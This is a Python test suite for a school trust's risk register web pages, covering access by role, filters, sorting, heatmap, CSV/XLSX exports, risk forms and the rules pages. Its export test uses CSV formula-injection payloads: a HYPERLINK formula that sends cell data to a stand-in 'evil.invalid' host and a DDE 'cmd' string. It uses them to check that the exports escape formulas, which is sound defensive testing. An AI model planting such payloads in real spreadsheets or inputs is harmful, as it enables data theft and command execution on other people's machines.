"""The risk register pages: who sees what (a trust-only risk never reaches an academy role), the
register's filters, sorting, heatmap and exports, raising and changing a risk through its
forms, the review, close and reopen steps, the board view, and the risk rules' pages."""

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from academies.models import Measure
from healthchecks.models import Risk, RiskEvent, RiskRule, Visibility
from healthchecks.risks import risk_change
from healthchecks.views_risks import PER_PAGE
from tests.factories import Role, person
from tests.healthchecks.makers import make_risk, make_rule
from tests.utils import queries_for

TRUST_ONLY = Visibility.TRUST_ONLY
REGISTER = reverse("healthchecks:risks")
BOARD = reverse("healthchecks:risks-board")
CSV = reverse("healthchecks:risks-export", kwargs={"fmt": "csv"})
XLSX = reverse("healthchecks:risks-export", kwargs={"fmt": "xlsx"})
CREATE = reverse("healthchecks:risk-create")
RULES = reverse("healthchecks:rules")
RULE_CREATE = reverse("healthchecks:rule-create")
EVIL = '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click me")'


def today():
    return timezone.localdate()


def days(n):
    return today() + datetime.timedelta(days=n)


def risk_url(risk, name="healthchecks:risk"):
    return reverse(name, kwargs={"uuid": risk.uuid})


def academy_url(academy):
    return reverse("healthchecks:academy-risks", kwargs={"urn": academy.urn})


def references(response):
    """The references of the risks listed in a page's tables, in order."""
    return re.findall(r'data-reference="(R-\d+)"', response.content.decode())


def register_refs(client, query=""):
    response = client.get(f"{REGISTER}{query}")
    assert response.status_code == 200
    return [risk.reference for risk in response.context["risks"]]


def heat(response):
    """{(likelihood, impact): count} of the page's heatmap."""
    cells = re.findall(
        r'data-likelihood="(\d)" data-impact="(\d)" data-count="(\d+)"', response.content.decode()
    )
    return {(int(lk), int(im)): int(n) for lk, im, n in cells}


def csv_rows(response):
    assert response["Content-Disposition"] == f'attachment; filename="risk-register-{today():%Y-%m-%d}.csv"'
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response):
    assert response["Content-Disposition"] == f'attachment; filename="risk-register-{today():%Y-%m-%d}.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]], sheet


def risk_form(place, **changes):
    data = {
        "academy": place.urn if place is not None else "trust", "category": "attendance",
        "title": "Persistent absence is rising", "description": "Two terms above national.",
        "likelihood": "3", "impact": "4", "owner": "", "mitigations": "", "review_frequency": "monthly",
        "next_review_on": "", "visibility": "shared", "reason": "",
    }
    data.update(changes)
    return data


def edit_form(risk, **changes):
    data = {
        "category": risk.category, "title": risk.title, "description": risk.description,
        "likelihood": str(risk.likelihood), "impact": str(risk.impact),
        "owner": risk.owner_id or "", "mitigations": risk.mitigations,
        "review_frequency": risk.review_frequency, "next_review_on": risk.next_review_on.isoformat(),
        "visibility": risk.visibility, "reason": "", "version": str(risk.version),
    }
    data.update(changes)
    return data


@pytest.fixture
def spread(world):
    """Risks across the trust: shared and trust-only in North A, one in North B, one in South A
    and one about the trust as a whole."""
    return {
        "shared_a": make_risk(world.north_a, title="Shared risk at North A", likelihood=4, impact=5),
        "secret_a": make_risk(world.north_a, visibility=TRUST_ONLY, title="Trust-only risk at North A",
                              likelihood=4, impact=5, category="leadership"),
        "north_b": make_risk(world.north_b, title="Risk at North B", likelihood=2, impact=2),
        "south_a": make_risk(world.south_a, title="Risk at South A", likelihood=3, impact=3),
        "trust": make_risk(None, visibility=TRUST_ONLY, title="Trust-level risk", likelihood=5, impact=5,
                           category="finance"),
    }


# Who sees what


def test_a_governor_sees_shared_risks_of_their_academy_and_never_a_trust_only_one(client, world, spread):
    client.force_login(world[Role.GOVERNOR])
    page = client.get(academy_url(world.north_a))
    assert page.status_code == 200
    text = page.content.decode()
    assert references(page) == [spread["shared_a"].reference]
    assert "Shared risk at North A" in text
    assert "Trust-only risk at North A" not in text and spread["secret_a"].reference not in text
    assert page.context["open_count"] == 1
    assert 'data-testid="open-count">1 open risk<' in text
    # Both risks score 4 x 5: the heatmap counts only the one the governor sees.
    assert heat(page)[(4, 5)] == 1
    assert sum(heat(page).values()) == 1

    hidden = client.get(risk_url(spread["secret_a"]))
    nowhere = "00000000-0000-4000-8000-000000000001"
    missing = client.get(reverse("healthchecks:risk", kwargs={"uuid": nowhere}))
    assert hidden.status_code == missing.status_code == 404
    assert client.get(risk_url(spread["shared_a"])).status_code == 200
    for url in (REGISTER, BOARD, CSV, XLSX, RULES, CREATE):
        assert client.get(url).status_code == 404, url


def test_the_academy_page_of_a_trust_executive_lists_trust_only_risks_too(client, world, spread):
    client.force_login(world[Role.EXECUTIVE])
    page = client.get(academy_url(world.north_a))
    assert set(references(page)) == {spread["shared_a"].reference, spread["secret_a"].reference}
    assert heat(page)[(4, 5)] == 2
    assert "Raise a risk for this academy" in page.content.decode()


def test_a_shared_risk_page_offers_no_changes_to_the_academy(client, world, spread):
    client.force_login(world[Role.HEADTEACHER])
    page = client.get(risk_url(spread["shared_a"]))
    text = page.content.decode()
    assert page.status_code == 200
    assert "Record the review" not in text and "Change the risk" not in text
    assert client.get(risk_url(spread["shared_a"], "healthchecks:risk-edit")).status_code == 403


def test_a_hub_leads_register_and_export_hold_only_their_hubs_risks(client, world, spread):
    client.force_login(world[Role.HUB_LEAD])
    expected = {spread["shared_a"].reference, spread["secret_a"].reference, spread["north_b"].reference}
    assert set(register_refs(client)) == expected
    assert {row["Reference"] for row in csv_rows(client.get(CSV))} == expected
    rows, _ = xlsx_rows(client.get(XLSX))
    assert {row["Reference"] for row in rows} == expected
    # An academy outside the hub cannot be chosen: the filter is refused and left out.
    response = client.get(f"{REGISTER}?academy={world.south_a.urn}")
    assert response.context["form"].errors["academy"]
    assert {r.reference for r in response.context["risks"]} == expected
    # The board counts only the hub's risks.
    board = client.get(BOARD)
    assert board.context["summary"]["total"] == 3
    assert "Risk at South A" not in board.content.decode()


def test_trust_wide_readers_see_every_risk_and_the_trust_level_one(client, world, spread):
    client.force_login(world[Role.TRUSTEE])
    refs = register_refs(client)
    assert set(refs) == {risk.reference for risk in spread.values()}
    assert refs[0] == spread["trust"].reference  # score 25 first
    page = client.get(REGISTER)
    assert "Raise a risk" not in page.content.decode()  # a trustee reads the register only
    assert client.get(CREATE).status_code == 404


# Filters, sorting, the heatmap


def test_the_register_filters(client, world, spread):
    owner = world[Role.SIEL]
    Risk.objects.filter(pk=spread["north_b"].pk).update(owner=owner, next_review_on=days(-3))
    Risk.objects.filter(pk=spread["south_a"].pk).update(status=Risk.Status.CLOSED, closed_on=today())
    client.force_login(world[Role.EXECUTIVE])
    r = {name: risk.reference for name, risk in spread.items()}

    assert set(register_refs(client)) == {r["shared_a"], r["secret_a"], r["north_b"], r["trust"]}  # open
    assert register_refs(client, "?status=closed") == [r["south_a"]]
    assert len(register_refs(client, "?status=all")) == 5
    assert set(register_refs(client, f"?academy={world.north_a.urn}")) == {r["shared_a"], r["secret_a"]}
    assert register_refs(client, "?academy=trust") == [r["trust"]]
    north = {r["shared_a"], r["secret_a"], r["north_b"]}
    assert set(register_refs(client, f"?hub={world.north.pk}")) == north
    assert register_refs(client, "?category=leadership") == [r["secret_a"]]
    assert set(register_refs(client, "?rag=red")) == {r["shared_a"], r["secret_a"], r["trust"]}
    assert register_refs(client, "?rag=green") == [r["north_b"]]
    assert set(register_refs(client, "?visibility=trust_only")) == {r["secret_a"], r["trust"]}
    assert register_refs(client, "?visibility=shared") == [r["shared_a"], r["north_b"]]
    assert register_refs(client, f"?owner={owner.pk}") == [r["north_b"]]
    assert register_refs(client, "?overdue=on") == [r["north_b"]]
    assert register_refs(client, "?q=north+b") == [r["north_b"]]
    assert register_refs(client, "?q=two+terms+above&academy=trust") == [r["trust"]]  # in the description
    assert register_refs(client, "?q=nothing+like+this") == []
    # The overdue review is flagged in words, and in the panel.
    page = client.get(REGISTER)
    assert "Review overdue by 3" in page.content.decode()
    assert page.context["overdue_count"] == 1


def test_the_register_sorts(client, world, spread):
    Risk.objects.filter(pk=spread["shared_a"].pk).update(next_review_on=days(40))
    Risk.objects.filter(pk=spread["secret_a"].pk).update(next_review_on=days(30))
    Risk.objects.filter(pk=spread["north_b"].pk).update(next_review_on=days(10))
    Risk.objects.filter(pk=spread["trust"].pk).update(next_review_on=days(50))
    Risk.objects.filter(pk=spread["south_a"].pk).update(next_review_on=days(20))
    client.force_login(world[Role.EXECUTIVE])
    r = {name: risk.reference for name, risk in spread.items()}
    by_score = register_refs(client)
    assert by_score[0] == r["trust"] and by_score[-1] == r["north_b"]
    assert by_score[1:3] == [r["secret_a"], r["shared_a"]]  # 20 each: the sooner review first
    assert register_refs(client, "?sort=next_review") == [
        r["north_b"], r["south_a"], r["secret_a"], r["shared_a"], r["trust"]
    ]
    assert register_refs(client, "?sort=reference") == sorted(r.values())
    by_academy = register_refs(client, "?sort=academy")
    assert by_academy[0] == r["trust"]  # the trust's own risk first
    assert by_academy.index(r["north_b"]) > by_academy.index(r["shared_a"])
    assert by_academy.index(r["south_a"]) > by_academy.index(r["north_b"])
    later = timezone.now() + datetime.timedelta(hours=1)
    Risk.objects.filter(pk=spread["south_a"].pk).update(updated_at=later)
    assert register_refs(client, "?sort=updated")[0] == r["south_a"]
    # A sort that does not exist is left out: the default applies.
    response = client.get(f"{REGISTER}?sort=password")
    assert response.context["form"].errors["sort"]
    assert [risk.reference for risk in response.context["risks"]] == by_score


def test_the_heatmap_counts_open_risks_matching_the_filters(client, world):
    make_risk(world.north_a, likelihood=5, impact=5)
    make_risk(world.north_b, likelihood=5, impact=5)
    make_risk(world.north_b, likelihood=1, impact=2)
    make_risk(world.south_a, likelihood=3, impact=4, category="finance")
    make_risk(world.south_a, likelihood=3, impact=4, status=Risk.Status.CLOSED)
    client.force_login(world[Role.EXECUTIVE])
    page = client.get(REGISTER)
    cells = heat(page)
    assert len(cells) == 25
    assert cells[(5, 5)] == 2 and cells[(1, 2)] == 1 and cells[(3, 4)] == 1
    assert sum(cells.values()) == 4  # the closed risk is not counted
    text = page.content.decode()
    # Rows from likelihood 5 down; each cell says its score and RAG in words.
    top, bottom = 'data-likelihood="5" data-impact="1"', 'data-likelihood="1" data-impact="1"'
    assert text.index(top) < text.index(bottom)
    assert "score 25," in text and "</span> red</span>" in text and "</span> green</span>" in text
    assert '<th scope="col"' in text and "<caption>" in text
    assert heat(client.get(f"{REGISTER}?category=finance")) == {**dict.fromkeys(cells, 0), (3, 4): 1}
    # Closed risks listed, but the heatmap is of open ones still.
    assert sum(heat(client.get(f"{REGISTER}?status=closed")).values()) == 4


def test_the_register_makes_the_same_number_of_queries_for_5_or_30_risks(client, world):
    owners = [person(Role.SIEL, email=f"owner{n}@trust.test") for n in range(3)]
    academies = [world.north_a, world.north_b, world.south_a, world.south_b, None]

    def add(count):
        for n in range(count):
            academy = academies[n % len(academies)]
            make_risk(academy, visibility=TRUST_ONLY if academy is None else Visibility.SHARED,
                      owner=owners[n % 3], likelihood=1 + n % 5, impact=1 + (n * 2) % 5,
                      next_review_on=days(-1 if n % 4 == 0 else 20))

    client.force_login(world[Role.EXECUTIVE])
    add(5)
    _, few = queries_for(client, REGISTER)
    add(25)
    response, many = queries_for(client, REGISTER)
    assert len(response.context["risks"]) == PER_PAGE
    assert len(few) == len(many), "\n".join(many)
    _, second_page = queries_for(client, f"{REGISTER}?page=2")
    assert len(second_page) == len(many)


# Exports


def test_the_export_escapes_formulae_and_holds_exactly_the_visible_rows(client, world, spread):
    evil = make_risk(world.north_a, title=EVIL, description="+cmd|' /C calc'!A0", mitigations="@SUM(1+1)",
                     owner=world[Role.SIEL], next_review_on=days(-2))
    client.force_login(world[Role.HUB_LEAD])
    expected = {spread["shared_a"].reference, spread["secret_a"].reference, spread["north_b"].reference,
                evil.reference}

    rows = csv_rows(client.get(CSV))
    assert {row["Reference"] for row in rows} == expected
    row = next(row for row in rows if row["Reference"] == evil.reference)
    assert row["Title"] == f"'{EVIL}"
    assert row["Description"].startswith("'+cmd")
    assert row["Mitigations"] == "'@SUM(1+1)"
    assert row["Academy"] == "North A" and row["URN"] == "100001"
    assert (row["Likelihood"], row["Impact"], row["Score"], row["RAG"]) == ("3", "4", "12", "Amber")
    assert row["Next review"] == days(-2).isoformat() and row["Review overdue"] == "Yes"
    assert row["Owner"] == world[Role.SIEL].full_name
    assert list(rows[0]) == [
        "Reference", "Academy", "URN", "Category", "Title", "Description", "Likelihood", "Impact", "Score",
        "RAG", "Owner", "Mitigations", "Review frequency", "Next review", "Review overdue", "Visibility",
        "Status", "Raised on", "Last changed",
    ]

    response = client.get(XLSX)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows, sheet = xlsx_rows(response)
    assert {row["Reference"] for row in rows} == expected
    row = next(row for row in rows if row["Reference"] == evil.reference)
    assert row["Title"] == f"'{EVIL}"
    assert row["Mitigations"] == "'@SUM(1+1)"
    assert row["Score"] == 12 and row["Likelihood"] == 3  # numbers as numbers
    assert row["Next review"].date() == days(-2)  # dates as dates
    assert row["Raised on"].date() == today()
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula"


def test_the_export_follows_the_filters_and_the_trust_level_risk_has_no_academy(client, world, spread):
    client.force_login(world[Role.EXECUTIVE])
    rows = csv_rows(client.get(f"{CSV}?visibility=trust_only&sort=reference"))
    assert [row["Reference"] for row in rows] == [spread["secret_a"].reference, spread["trust"].reference]
    trust_row = rows[1]
    assert trust_row["Academy"] == "Trust" and trust_row["URN"] == ""
    assert client.get(reverse("healthchecks:risks-export", kwargs={"fmt": "pdf"})).status_code == 404
    page = client.get(f"{REGISTER}?visibility=trust_only")
    assert f"{CSV}?visibility=trust_only" in page.content.decode()


# Raising and changing a risk


def test_a_risk_is_raised_through_the_form(client, world):
    client.force_login(world[Role.HUB_LEAD])
    response = client.post(CREATE, risk_form(world.north_b, likelihood="5", impact="4",
                                             owner=world[Role.HUB_LEAD].pk, reason="Seen at the visit."))
    risk = Risk.objects.get()
    assert response.status_code == 302 and response["Location"] == risk_url(risk)
    assert (risk.academy, risk.score, risk.rag) == (world.north_b, 20, "red")
    assert risk.raised_by == world[Role.HUB_LEAD]
    assert risk.next_review_on == risk.next_review_after(today())
    assert RiskEvent.objects.get(risk=risk).reason == "Seen at the visit."


def test_a_forged_academy_outside_the_persons_scope_is_refused_by_the_form(client, world):
    client.force_login(world[Role.HUB_LEAD])
    page = client.get(CREATE)
    offered = [value for value, _ in page.context["form"].fields["academy"].choices]
    assert offered == ["", world.north_a.urn, world.north_b.urn]  # not the trust, not the south
    for forged in (world.south_a.urn, "trust", "999999"):
        response = client.post(CREATE, risk_form(None, academy=forged))
        assert response.status_code == 200
        assert response.context["form"].errors["academy"]
        assert "The risk was not saved" in response.content.decode()
    assert not Risk.objects.exists()


def test_a_trust_level_risk_is_trust_only_and_its_owner_must_be_at_the_trust(client, world):
    client.force_login(world[Role.EXECUTIVE])
    refused = client.post(CREATE, risk_form(None, owner=world[Role.GOVERNOR].pk))
    assert "cannot see this risk" in str(refused.context["form"].errors["owner"])
    assert not Risk.objects.exists()
    client.post(CREATE, risk_form(None, owner=world[Role.SIEL].pk))
    risk = Risk.objects.get()
    assert risk.academy is None and risk.visibility == TRUST_ONLY and risk.owner == world[Role.SIEL]


def test_an_edit_needs_a_reason(client, world):
    risk = make_risk(world.north_a)
    client.force_login(world[Role.SIEL])
    response = client.post(risk_url(risk, "healthchecks:risk-edit"), edit_form(risk, likelihood="5"))
    assert response.status_code == 200
    assert "Say why the risk is changing" in str(response.context["form"].errors["reason"])
    risk.refresh_from_db()
    assert risk.likelihood == 3 and not risk.events.exists()


def test_an_edit_is_saved_with_its_reason_and_history(client, world):
    risk = make_risk(world.north_a)
    client.force_login(world[Role.SIEL])
    page = client.get(risk_url(risk, "healthchecks:risk-edit"))
    assert 'name="version" value="1"' in page.content.decode()
    response = client.post(risk_url(risk, "healthchecks:risk-edit"),
                           edit_form(risk, likelihood="5", reason="Spring figures are worse."))
    assert response.status_code == 302
    risk.refresh_from_db()
    assert (risk.score, risk.rag, risk.version) == (20, "red", 2)
    detail = client.get(risk_url(risk)).content.decode()
    assert "Spring figures are worse." in detail
    assert "Likelihood: 3" in detail and "Score: 12" in detail and "RAG: Amber" in detail


def test_a_stale_edit_is_refused_with_the_message(client, world):
    risk = make_risk(world.north_a)
    risk_change(risk=risk, by=world[Role.EXECUTIVE], reason="Someone else first.", title="Changed meanwhile")
    client.force_login(world[Role.SIEL])
    response = client.post(risk_url(risk, "healthchecks:risk-edit"),
                           edit_form(risk, version="1", likelihood="5", reason="Mine."))
    assert response.status_code == 200
    assert "Someone else changed this risk since you opened it" in response.content.decode()
    risk.refresh_from_db()
    assert (risk.title, risk.likelihood, risk.version) == ("Changed meanwhile", 3, 2)


def test_a_trust_only_risk_cannot_be_given_an_owner_at_the_academy(client, world):
    risk = make_risk(world.north_a)
    client.force_login(world[Role.EXECUTIVE])
    response = client.post(risk_url(risk, "healthchecks:risk-edit"), edit_form(
        risk, visibility="trust_only", owner=world[Role.HEADTEACHER].pk, reason="Now confidential."))
    assert "cannot see this risk" in str(response.context["form"].errors["owner"])
    risk.refresh_from_db()
    assert risk.visibility == Visibility.SHARED


# Review, close, reopen


def test_review_close_and_reopen_through_the_page_record_history(client, world):
    risk = make_risk(world.north_a, review_frequency="monthly", next_review_on=days(-5))
    client.force_login(world[Role.HUB_LEAD])
    page = client.get(risk_url(risk)).content.decode()
    assert "Record the review" in page and "Close the risk" in page and "Reopen the risk" not in page

    response = client.post(risk_url(risk, "healthchecks:risk-review"),
                           {"commentary": "Calls made daily.", "reviewed_on": "", "version": "1"})
    assert response.status_code == 302 and response["Location"] == risk_url(risk)
    risk.refresh_from_db()
    assert risk.last_reviewed_on == today() and risk.next_review_on == days(30)

    client.post(risk_url(risk, "healthchecks:risk-close"), {"reason": "Back above national.", "version": "2"})
    risk.refresh_from_db()
    assert risk.status == Risk.Status.CLOSED and risk.closed_on == today()
    page = client.get(risk_url(risk)).content.decode()
    assert "Reopen the risk" in page and "Record the review" not in page

    client.post(risk_url(risk, "healthchecks:risk-reopen"), {"reason": "It fell again.", "version": "3"})
    risk.refresh_from_db()
    assert risk.status == Risk.Status.OPEN
    assert list(risk.events.values_list("kind", "reason")) == [
        ("reviewed", "Calls made daily."), ("closed", "Back above national."), ("reopened", "It fell again."),
    ]
    history = client.get(risk_url(risk))
    text = history.content.decode()
    for words in ("Calls made daily.", "Back above national.", "It fell again.", "Status: Closed"):
        assert words in text
    assert world[Role.HUB_LEAD].full_name in text


def test_a_refused_step_comes_back_as_a_message(client, world):
    risk = make_risk(world.north_a, status=Risk.Status.CLOSED)
    client.force_login(world[Role.EXECUTIVE])
    response = client.post(risk_url(risk, "healthchecks:risk-close"), {"reason": "Again.", "version": "1"},
                           follow=True)
    assert "The risk was not closed. This risk is already closed." in response.content.decode()
    response = client.post(risk_url(risk, "healthchecks:risk-reopen"), {"reason": "", "version": "1"},
                           follow=True)
    assert "The risk was not reopened." in response.content.decode()
    response = client.post(risk_url(risk, "healthchecks:risk-review"),
                           {"commentary": "Looked.", "version": "1"}, follow=True)
    assert "A closed risk is not reviewed" in response.content.decode()
    stale = client.post(risk_url(risk, "healthchecks:risk-reopen"), {"reason": "Why not.", "version": "9"},
                        follow=True)
    assert "Someone else changed this risk" in stale.content.decode()
    assert not risk.events.exists()


# The risk page's evidence


def test_a_rule_raised_risk_shows_its_evidence(client, world):
    rule = make_rule(name="KS2 reading below national", kind=RiskRule.Kind.MEASURE_VS_NATIONAL,
                     measure=Measure.objects.get(code="ks2_expected"), category="standards")
    risk = make_risk(world.north_a, rule=rule, rule_key="k", evidence=[
        {"period": "Autumn 2025/26", "measure": "Reading", "pupil_group": "Disadvantaged", "value": "61",
         "national": "70", "worse_by": "9", "source": "autumn.csv", "as_at": "2025-12-12"},
        {"source": "Ofsted inspection", "date": "2025-10-01", "judgement": "Safeguarding: Not effective"},
    ])
    client.force_login(world[Role.GOVERNOR])
    response = client.get(risk_url(risk))
    text = response.content.decode()
    start = text.index('data-testid="evidence"')
    table = text[start:text.index("</table>", start)]
    for words in ("Autumn 2025/26", "Reading (disadvantaged)", ">61<", ">70<", ">9<", "autumn.csv",
                  "12 Dec 2025", "1 Oct 2025", "Safeguarding: Not effective", "Ofsted inspection"):
        assert words in table, words
    assert "KS2 reading below national" in text


# The board view


def test_the_board_view(client, world, spread):
    RiskEvent.objects.all().delete()
    changed = spread["north_b"]
    risk_change(risk=changed, by=world[Role.EXECUTIVE], reason="Worse figures.", likelihood=4, impact=4)
    risk_change(risk=spread["south_a"], by=world[Role.EXECUTIVE], reason="Title only.", title="Renamed")
    Risk.objects.filter(pk=spread["shared_a"].pk).update(next_review_on=days(-10))
    closed = make_risk(world.south_b, title="Closed lately", status=Risk.Status.CLOSED, closed_on=days(-20))
    make_risk(world.south_b, title="Closed long ago", status=Risk.Status.CLOSED, closed_on=days(-200))
    client.force_login(world[Role.TRUSTEE])
    response = client.get(BOARD)
    assert response.status_code == 200
    context = response.context
    assert context["since"] == days(-90)
    assert dict((v, n) for v, _, n in context["summary"]["rags"]) == {"red": 4, "amber": 1, "green": 0}
    assert {row["value"]: row["total"] for row in context["summary"]["categories"]} == {
        "attendance": 3, "leadership": 1, "finance": 1}
    assert context["top"][0].reference == spread["trust"].reference
    assert [risk.rag for risk in context["top"]] == ["red", "red", "red", "red", "amber"]
    assert [(row["risk"], row["before"], row["after"]) for row in context["changes"]] == [(changed, 4, 16)]
    assert [risk.reference for risk in context["overdue"]] == [spread["shared_a"].reference]
    assert [risk.reference for risk in context["closed"]] == [closed.reference]
    assert sum(heat(response).values()) == 5
    text = response.content.decode()
    assert '<style media="print">' in text and "<script>" not in text.split("<main", 1)[1]
    assert "Closed long ago" not in text
    # Since a date after the change and the closure: neither shown.
    RiskEvent.objects.filter(risk=changed).update(at=timezone.now() - datetime.timedelta(days=30))
    later = client.get(f"{BOARD}?since={days(-10).isoformat()}")
    assert later.context["changes"] == [] and later.context["closed"] == []
    wrong = client.get(f"{BOARD}?since=not-a-date")
    assert wrong.status_code == 200 and wrong.context["since"] == days(-90)


# Risk rules


def test_the_rules_page_counts_what_each_rule_raised(client, world):
    rule = make_rule()
    make_risk(world.north_a, rule=rule, rule_key="a")
    make_risk(world.south_a, rule=rule, rule_key="b", status=Risk.Status.CLOSED)
    client.force_login(world[Role.EXECUTIVE])
    response = client.get(RULES)
    listed = response.context["rules"]
    assert [(r.raised, r.open) for r in listed] == [(2, 1)]
    assert "Add a rule" in response.content.decode()
    client.force_login(world[Role.HUB_LEAD])  # reads the rules; counts only the hub's risks
    response = client.get(RULES)
    assert [(r.raised, r.open) for r in response.context["rules"]] == [(1, 1)]
    assert "Add a rule" not in response.content.decode()
    assert client.get(RULE_CREATE).status_code == 403


def rule_form(**changes):
    data = {
        "name": "Reading below national", "kind": "measure_vs_national", "active": "on",
        "measure": Measure.objects.get(code="ks2_expected").pk, "pupil_group": "disadvantaged",
        "margin": "5", "periods": "2", "termly": "", "category": "standards", "likelihood": "4",
        "impact": "4", "visibility": "shared", "review_frequency": "termly",
    }
    data.update(changes)
    return data


def test_a_rule_is_created_and_edited_and_the_rules_run(client, world, django_capture_on_commit_callbacks,
                                                        monkeypatch):
    sent = []
    monkeypatch.setattr("healthchecks.tasks.run_risk_rules.apply_async",
                        lambda args=(), kwargs=None: sent.append((args, kwargs)))
    client.force_login(world[Role.ADMINISTRATOR])
    assert client.get(RULE_CREATE).status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(RULE_CREATE, rule_form())
    assert response.status_code == 302 and response["Location"] == RULES
    rule = RiskRule.objects.get()
    assert (rule.measure.code, rule.pupil_group, rule.margin, rule.termly) == (
        "ks2_expected", "disadvantaged", 5, False)
    assert len(sent) == 1

    edit = reverse("healthchecks:rule-edit", kwargs={"uuid": rule.uuid})
    assert client.get(edit).context["form"].initial["name"] == "Reading below national"
    with django_capture_on_commit_callbacks(execute=True):
        client.post(edit, rule_form(name="Reading well below national", margin="10", active=""))
    rule.refresh_from_db()
    assert (rule.name, rule.margin, rule.active) == ("Reading well below national", 10, False)
    assert len(sent) == 2


def test_a_new_rule_raises_its_risks_at_once(client, world, eager, django_capture_on_commit_callbacks):
    from academies.models import Inspection
    from academies.models.ofsted import Framework

    Inspection.objects.create(academy=world.north_a, urn_at_inspection=world.north_a.urn,
                              framework=Framework.values[0], start_date=datetime.date(2025, 10, 1),
                              safeguarding=Inspection.Safeguarding.NOT_EFFECTIVE)
    client.force_login(world[Role.EXECUTIVE])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(RULE_CREATE, rule_form(name="Safeguarding", kind="safeguarding", measure="",
                                           category="safeguarding"))
    risk = Risk.objects.get()
    assert risk.academy == world.north_a and risk.rule.name == "Safeguarding"


def test_a_bad_rule_gets_a_clear_error(client, world):
    client.force_login(world[Role.EXECUTIVE])
    response = client.post(RULE_CREATE, rule_form(measure=""))
    assert response.status_code == 200
    assert response.context["form"].errors["measure"] == ["A measure rule needs the measure to watch."]
    context = Measure.objects.get(code="eal")
    response = client.post(RULE_CREATE, rule_form(measure=context.pk))
    assert "not context" in response.context["form"].errors["measure"][0]
    assert "The rule was not saved" in response.content.decode()
    response = client.post(RULE_CREATE, rule_form(periods="9", margin="-1"))
    assert set(response.context["form"].errors) >= {"periods"}
    assert not RiskRule.objects.exists()
    offered = response.context["form"].fields["measure"].queryset
    assert context not in offered and offered.filter(code="ks2_expected").exists()


def test_a_governor_reads_a_small_groups_evidence_as_suppressed(client, world):
    from healthchecks.rules import SUPPRESSED

    evidence = [
        {"period": "Autumn 2025/26", "measure": "Persistent absence", "pupil_group": "Disadvantaged",
         "value": "31.5", "national": "24.1", "worse_by": "7.4", "cohort": 4, "source": "absence.csv"},
        {"period": "Spring 2025/26", "measure": "Persistent absence", "pupil_group": "Disadvantaged",
         "value": "30.2", "national": "23.8", "worse_by": "6.4", "cohort": 40, "source": "absence.csv"},
    ]
    risk = make_risk(world.north_a, evidence=evidence)
    url = reverse("healthchecks:risk", kwargs={"uuid": risk.uuid})
    api = reverse("api:risk-detail", kwargs={"uuid": risk.uuid})

    client.force_login(world[Role.GOVERNOR])
    page = client.get(url).content.decode()
    assert SUPPRESSED in page and "31.5" not in page and "30.2" in page
    values = [entry["value"] for entry in client.get(api).json()["evidence"]]
    assert values == [SUPPRESSED, "30.2"]

    client.force_login(world[Role.EXECUTIVE])
    assert "31.5" in client.get(url).content.decode()
    assert [entry["value"] for entry in client.get(api).json()["evidence"]] == ["31.5", "30.2"]
